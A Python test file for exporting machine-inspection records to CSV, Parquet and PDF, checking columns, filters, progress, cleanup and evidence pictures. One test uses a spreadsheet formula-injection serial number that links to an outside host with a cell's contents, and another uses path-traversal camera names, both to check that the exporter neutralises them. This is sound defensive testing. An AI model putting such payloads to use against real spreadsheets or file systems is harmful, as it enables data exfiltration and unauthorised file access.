"""Records as CSV, Parquet and paper: what is in them, and that a file is whole or not there."""

import csv
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import cv2
import numpy as np
import pytest
from pyarrow import parquet

from inspector.errors import InputError, MachineError
from inspector.inspection.aspect import Aspect
from inspector.inspection.records import Records
from inspector.inspection.records.evidence import INK, drawn, pictures
from inspector.inspection.records.export import COLUMNS, Form, export
from inspector.inspection.records.wanted import Wanted
from inspector.inspection.verdict import Verdict
from tests.full_disk import no_file_larger_than
from tests.inspection.inspected import FINDINGS, FRAME, HOUR, NOON, SEEN, add, inspection
from tests.paper import text_of


@pytest.fixture
def own(tmp_path: Path) -> Iterator[Records]:
    with closing(Records(tmp_path / "records")) as opened:
        yield opened


def test_csv_is_a_line_an_inspection(records: Records, tmp_path: Path) -> None:
    odd = replace(inspection(1), findings=(replace(FINDINGS[0], reason='screw: "1", is off'),))
    add(records, inspection(0, Verdict.OK), odd)
    assert export(records, tmp_path / "all.csv", Form.CSV) == 2
    with (tmp_path / "all.csv").open(newline="") as file:
        lines = list(csv.DictReader(file))
    assert tuple(lines[0]) == COLUMNS
    assert [line["verdict"] for line in lines] == ["NOT_OK", "OK"]
    assert lines[0]["reason"] == 'screw: "1", is off'
    assert lines[1]["started_at"] == "2026-01-01T12:00:00.000000Z"
    assert (lines[1]["station"], lines[1]["trigger"]) == ("left", "key")
    assert (records.folder / lines[1]["evidence"]).is_file()


@pytest.mark.parametrize("form", Form)
@pytest.mark.parametrize(
    "wanted",
    [Wanted(serial="A"), Wanted(serial="A", component="screw"), Wanted(serial="A", verdict=Verdict.OK)],
    ids=["a number", "and a component", "and a verdict"],
)
def test_an_export_tells_how_far_it_is_and_leaves_nothing_once_it_is_ended(
    records: Records, tmp_path: Path, form: Form, wanted: Wanted
) -> None:
    add(records, *(inspection(n, Verdict.OK, serial="A") for n in range(3)), inspection(3, serial="B"))
    heard: list[tuple[int, int]] = []
    path = tmp_path / "out" / f"all.{form}"
    export(records, path, form, wanted, progress=lambda done, total: heard.append((done, total)))
    assert heard == [(1, 3), (2, 3), (3, 3)]
    path.unlink()

    def end(done: int, _: int) -> None:
        if done == 2:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        export(records, path, form, wanted, progress=end)
    assert not any(path.parent.iterdir())


@pytest.mark.parametrize(
    "wanted", [Wanted(), Wanted(component="screw"), Wanted(component="screw", verdict=Verdict.NOT_OK), Wanted(NOON)]
)
def test_what_is_counted_is_what_is_given(records: Records, wanted: Wanted) -> None:
    add(records, *(inspection(n, verdict) for n, verdict in enumerate((Verdict.OK, Verdict.NOT_OK, Verdict.NOT_OK))))
    assert records.count(wanted) == len(list(records.each(wanted))) > 0


def test_a_serial_number_is_no_formula_in_csv(records: Records, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://elsewhere/?"&A1,"ok")'
    add(records, inspection(0, serial=formula))
    for form in (Form.CSV, Form.PARQUET):
        export(records, tmp_path / f"all.{form}", form)
    with (tmp_path / "all.csv").open(newline="") as file:
        assert [line["serial"] for line in csv.DictReader(file)] == [f"'{formula}"]
    assert parquet.read_table(tmp_path / "all.parquet")["serial"].to_pylist() == [formula]


def test_parquet_keeps_types_and_findings(records: Records, tmp_path: Path) -> None:
    add(records, *(inspection(n) for n in range(3)))
    path = tmp_path / "all.parquet"
    assert export(records, path, Form.PARQUET, Wanted(since=NOON + HOUR)) == 2
    first, second = parquet.read_table(path).to_pylist()
    assert (first["id"], second["id"]) == (inspection(2).id, inspection(1).id)
    assert second["started_at"] == NOON + HOUR
    assert second["latency_ms"] == 12.5
    off = {"component": "screw", "pattern": "off", "expected": 4, "found": 3, "verdict": "NOT_OK"}
    assert second["findings"][0] == {**off, "reason": "screw: 1 is off"}
    assert second["findings"][1]["pattern"] is None


def test_nothing_at_all_is_a_file_with_its_columns(own: Records, tmp_path: Path) -> None:
    for form in (Form.CSV, Form.PARQUET):
        assert export(own, tmp_path / f"none.{form}", form) == 0
    assert parquet.read_table(tmp_path / "none.parquet").column_names == [*COLUMNS, "findings"]
    assert (tmp_path / "none.csv").read_text() == ",".join(COLUMNS) + "\n"


@pytest.mark.parametrize("form", Form)
def test_a_full_disk_leaves_no_half_file(own: Records, tmp_path: Path, form: Form) -> None:
    add(own, *(inspection(n, serial="A") for n in range(20)))
    path = tmp_path / "exported" / f"all.{form}"
    with no_file_larger_than(2000), pytest.raises(MachineError, match="Cannot write"):
        export(own, path, form, Wanted(serial="A"))
    assert list(path.parent.iterdir()) == []


def test_paper_shows_all_that_is_known_of_a_serial_number(records: Records, tmp_path: Path) -> None:
    bare = replace(inspection(1, Verdict.OK, serial="A<1>&"), findings=())
    add(records, inspection(0, serial="A<1>&"), bare, inspection(2, serial="B"))
    records.mark(inspection(0).id, "maria", False, "it is <on>")
    records.evidence(bare).unlink()
    path = tmp_path / "A.pdf"
    assert export(records, path, Form.PDF, Wanted(serial="A<1>&")) == 2
    said = text_of(path)
    for part in ("Serial number A<1>&", "FAIL", "PASS", "box-1", "left", "screw: 1 is off", "maria", "it is <on>"):
        assert part in said
    assert "Its picture is not kept here." in said
    assert path.read_bytes().count(b"/Subtype /Image") == 1
    assert inspection(2).id not in said


@pytest.mark.parametrize(
    ("wanted", "said"), [(Wanted(), "say which"), (Wanted(serial=""), "say which"), (Wanted(serial="C"), "'C'")]
)
def test_paper_is_about_one_serial_number(own: Records, tmp_path: Path, wanted: Wanted, said: str) -> None:
    add(own, inspection(0))
    with pytest.raises(InputError, match=said):
        export(own, tmp_path / "x.pdf", Form.PDF, wanted)
    assert not (tmp_path / "x.pdf").exists()


def test_boxes_are_drawn_where_things_were_seen(own: Records) -> None:
    add(own, inspection(0))
    path = own.evidence(inspection(0))
    plain = cv2.imread(str(path))
    jpeg = drawn(path, 1400)
    assert jpeg is not None
    with_boxes = cv2.imdecode(np.frombuffer(jpeg, np.uint8), cv2.IMREAD_COLOR)
    assert with_boxes.shape == (48, 64, 3)
    assert plain is not None
    # The left side of the box (1, 2, 30, 40), away from any writing.
    assert np.abs(with_boxes[20:38, 1].astype(int) - INK).mean() < 60
    small = drawn(path, 32)
    assert small is not None
    assert cv2.imdecode(np.frombuffer(small, np.uint8), cv2.IMREAD_COLOR).shape == (24, 32, 3)


@pytest.mark.parametrize(
    ("camera", "name", "others"),
    [
        ("", "", []),
        ('[{"name": "top"}, {"name": "side"}, {"name": "back"}]', "top", ["side", "back"]),
        ('[{"name": "top"}, {"name": "top"}]', "top", []),
        ('[{"name": ""}]', "", []),
        ("no JSON", "", []),
        ('{"name": "top"}', "", []),
        ('[1, 2, {"name": "../../up"}, {"name": "a/b"}, {"name": ".."}, {}]', "", [".."]),
    ],
)
def test_each_camera_has_a_picture_in_the_folder_of_the_first(camera: str, name: str, others: list[str]) -> None:
    first = Path("evidence/2026-01-01/x.jpg")
    found = pictures(first, camera)
    assert list(found) == [name, *others]
    assert list(found.values()) == [first, *(first.with_name(f"x.{other}.jpg") for other in others)]


def test_paper_shows_the_picture_of_each_camera_with_its_name(own: Records, tmp_path: Path) -> None:
    one = inspection(0, serial="A")
    own.add(one, FRAME, SEEN, {"side": Aspect(FRAME, SEEN, SEEN, ())})
    assert list(own.pictures(one).values()) == [own.evidence(one), own.evidence(one, "side")]
    path = tmp_path / "A.pdf"
    export(own, path, Form.PDF, Wanted(serial="A"))
    assert "Camera top" in text_of(path)
    assert "Camera side" in text_of(path)
    own.evidence(one, "side").unlink()
    export(own, path, Form.PDF, Wanted(serial="A"))
    assert text_of(path).count("Its picture is not kept here.") == 1


@pytest.mark.parametrize("damage", ["picture", "json", "none"])
def test_evidence_that_cannot_be_read_is_no_picture(own: Records, damage: str) -> None:
    add(own, inspection(0))
    path = own.evidence(inspection(0))
    match damage:
        case "picture":
            path.write_bytes(b"no picture")
        case "json":
            path.with_suffix(".json").write_text("{")
        case "none":
            path.unlink()
    assert drawn(path, 100) is None
